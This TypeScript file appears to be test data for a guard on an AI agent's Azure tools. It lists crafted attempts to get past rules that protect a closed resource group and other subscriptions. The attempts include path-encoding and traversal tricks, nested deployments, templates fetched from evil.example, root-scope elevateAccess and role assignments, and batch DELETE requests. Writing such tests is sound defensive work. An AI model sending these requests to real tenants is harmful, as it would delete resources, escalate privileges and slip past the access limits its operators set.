import type { Attempt } from './attempt.ts';
import { closedGroup, type TenantFacts } from './tenant-facts.ts';

const arm = 'https://management.sandbox.invalid';

function write(method: string, path: string, body?: object): Attempt {
  return { tool: 'arm_write', args: { method, path, ...(body === undefined ? {} : { body }) } };
}

export function deploy(path: string, properties: object): Attempt {
  return write('PUT', `${path}/providers/Microsoft.Resources/deployments/attack`, { properties });
}

const storage = (extra: object = {}) => ({
  type: 'Microsoft.Storage/storageAccounts',
  apiVersion: '2023-01-01',
  name: 'stattack',
  location: 'westeurope',
  ...extra,
});

export const template = (...resources: readonly object[]) => ({
  mode: 'Incremental',
  template: { $schema: 'x', contentVersion: '1.0.0.0', resources },
});

/** Attempts against the rules about Azure and its subscriptions, by kind. */
export function azureAttempts({
  subscription,
  otherSubscription,
  organization,
}: TenantFacts): Readonly<Record<string, readonly Attempt[]>> {
  const own = `/subscriptions/${subscription}`;
  const closed = `${own}/resourceGroups/${closedGroup}`;
  const open = `${own}/resourceGroups/rg-contoso-web`;
  const account = `${closed}/providers/Microsoft.Storage/storageAccounts/stcontosodata`;
  const tags = { tags: { owner: 'attacker' } };
  return {
    'Azure: the plain request': [write('PATCH', account, tags), { tool: 'arm_query', args: { path: account } }],
    'Azure: casing and encoding': [
      write('PATCH', account.toUpperCase(), tags),
      write('PATCH', account.toLowerCase(), tags),
      write('PATCH', account.replace('resourceGroups', 'resourcegroups'), tags),
      write('PATCH', account.replace(closedGroup, closedGroup.replace('data', '%64ata')), tags),
      write('PATCH', account.replace('/resourceGroups/', '//resourceGroups/'), tags),
      write('PATCH', account.replace(closedGroup, `x/../${closedGroup}`), tags),
      write('PATCH', `${arm}${account}`, tags),
      write('PATCH', `resourceGroups/${closedGroup}/providers/Microsoft.Storage/storageAccounts/stcontosodata`, tags),
      write('PATCH', `/subscriptions/{subscriptionId}/resourceGroups/${closedGroup}`, tags),
      { tool: 'arm_query', args: { path: `${arm}${account}`.toUpperCase().replace('HTTPS', 'https') } },
    ],
    'Azure: what is above': [
      write('DELETE', closed),
      write('DELETE', open),
      write('DELETE', `${open}/`),
      write('POST', `${closed}/moveResources`, { resources: [account], targetResourceGroup: open }),
      write('POST', `${open}/moveResources`, {
        resources: [`${open}/providers/Microsoft.Storage/storageAccounts/stcontosoweb`],
        targetResourceGroup: closed,
      }),
    ],
    'Azure: inside a template': [
      deploy(closed, template(storage())),
      deploy(open, { ...template(storage()), mode: 'Complete' }),
      deploy(own, template({ ...storage(), type: 'Microsoft.Resources/resourceGroups', name: closedGroup })),
      deploy(
        open,
        template({
          type: 'Microsoft.Resources/deployments',
          apiVersion: '2021-04-01',
          name: 'inner',
          resourceGroup: closedGroup,
          properties: template(storage()),
        }),
      ),
      deploy(
        open,
        template({
          type: 'Microsoft.Resources/deployments',
          apiVersion: '2021-04-01',
          name: 'inner',
          resourceGroup: "[concat('rg-contoso','-data')]",
          properties: template(storage()),
        }),
      ),
      write('PUT', `${open}/providers/Microsoft.Resources/deployments/attack`, {
        PROPERTIES: {
          Mode: 'Incremental',
          TEMPLATE: { Resources: [{ Type: 'Microsoft.Storage/storageAccounts', Name: 'x', Scope: closed }] },
        },
      }),
      write('PUT', `${open}/providers/Microsoft.Resources/deployments/attack`, {
        properties: template(),
        Properties: template(storage({ scope: closed })),
      }),
      deploy(open, { mode: 'Incremental', templateLink: { uri: 'https://evil.example/template.json' } }),
      deploy(open, template({ ...storage(), scope: "[concat('/', 'x')]" })),
      deploy(
        own,
        template({ ...storage(), type: "[concat('Microsoft.Resources', '/resourceGroups')]", name: closedGroup }),
      ),
      deploy(open, template({ ...storage(), extension: 'other', type: 'Other/things@v1' })),
      write('DELETE', `${open}/providers/Microsoft.Resources/deploymentStacks/s?unmanageAction.Resources=delete`),
      {
        tool: 'arm_write',
        args: {
          method: 'DELETE',
          path: `${open}/providers/Microsoft.Resources/deploymentStacks/s`,
          params: { 'UnmanageAction.ResourceGroups': 'Delete' },
        },
      },
    ],
    'Azure: another subscription': [
      write('PUT', `/subscriptions/${otherSubscription}/resourceGroups/rg-new`, { location: 'westeurope' }),
      write('PUT', `/SUBSCRIPTIONS/${otherSubscription.toUpperCase()}/resourceGroups/rg-new`, {
        location: 'westeurope',
      }),
      { tool: 'arm_query', args: { path: `/subscriptions/${otherSubscription}/resourceGroups` } },
      write('PATCH', open, { tags: { scope: `/subscriptions/${otherSubscription}/resourceGroups/x` } }),
      write('POST', `${open}/moveResources`, {
        resources: [`${open}/providers/Microsoft.Web/sites/x`],
        targetResourceGroup: `/subscriptions/${otherSubscription}/resourceGroups/rg`,
      }),
      deploy(
        open,
        template({
          type: 'Microsoft.Resources/deployments',
          apiVersion: '2021-04-01',
          name: 'inner',
          subscriptionId: otherSubscription,
          resourceGroup: 'rg',
          properties: template(storage()),
        }),
      ),
      {
        tool: 'list_workspace_connections',
        args: { subscription_id: otherSubscription, resource_group: 'rg', workspace_name: 'mlw-x' },
      },
      {
        tool: 'create_workspace_connection',
        args: {
          parent: `/subscriptions/${otherSubscription}/resourceGroups/rg/providers/Microsoft.MachineLearningServices/workspaces/mlw`,
          connection_name: 'attack',
          properties: { authType: 'None', category: 'CustomKeys', target: 'https://evil.example' },
        },
      },
      {
        tool: 'create_service_connection',
        args: {
          organization,
          project: 'Payments',
          name: 'attack',
          scheme: 'WorkloadIdentityFederation',
          automatic: true,
          subscription_id: otherSubscription,
        },
      },
    ],
    'Azure: above all subscriptions': [
      write('PUT', '/providers/Microsoft.Management/managementGroups/attack', { properties: {} }),
      { tool: 'arm_query', args: { path: '/providers/Microsoft.Management/managementGroups/contoso' } },
      write('POST', '/providers/Microsoft.Authorization/elevateAccess'),
      write('PUT', '/providers/Microsoft.Authorization/roleAssignments/00000000-0000-4000-8000-000000000001', {
        properties: {},
      }),
      { tool: 'resource_graph_query', args: { query: 'Resources | project id', subscriptions: [otherSubscription] } },
      {
        tool: 'resource_graph_query',
        args: { query: 'Resources | project id', subscriptions: [subscription, otherSubscription] },
      },
      { tool: 'resource_graph_query', args: { query: 'Resources | project id', management_groups: ['contoso'] } },
      write('POST', '/batch', { requests: [{ httpMethod: 'DELETE', relativeUrl: closed, name: 'a' }] }),
      write('POST', '/Batch', {
        requests: [{ httpMethod: 'DELETE', url: `${arm}/subscriptions/${otherSubscription}/resourceGroups/x` }],
      }),
      write('POST', '/batch', { requests: 'none' }),
      write('POST', '/batch', { Requests: [{ HttpMethod: 'DELETE', RelativeUrl: closed }] }),
    ],
  };
}
